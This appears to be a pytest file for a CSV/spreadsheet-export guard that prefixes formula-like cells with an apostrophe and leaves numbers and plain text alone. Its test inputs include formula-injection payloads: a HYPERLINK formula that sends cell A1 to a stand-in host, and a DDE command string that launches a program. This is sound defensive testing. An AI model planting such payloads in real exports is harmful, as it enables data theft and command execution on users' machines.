"""Text cells that could run as a formula get a leading apostrophe; numbers never do."""

from __future__ import annotations

import pytest

from npldesk.core.cells import safe_cell
from npldesk.core.masking import mask_name


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        "=1+2",
        "+1+2",
        "-1+2",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "-",
        "+",
        "=",
        "-cmd|' /C calc'!A0",
    ],
)
def test_text_a_spreadsheet_would_run_is_neutralised(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "王小明", "HB0101", "-1250.00", "+12", "-0.006400", "1E+3", "-2.5e-3", "a=b"]
)
def test_plain_text_and_numbers_are_left_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


def test_a_masked_formula_name_is_neutralised_too() -> None:
    masked = mask_name("=HYPERLINK(1)")
    assert masked is not None and masked.startswith("=")
    assert safe_cell(masked) == "'" + masked
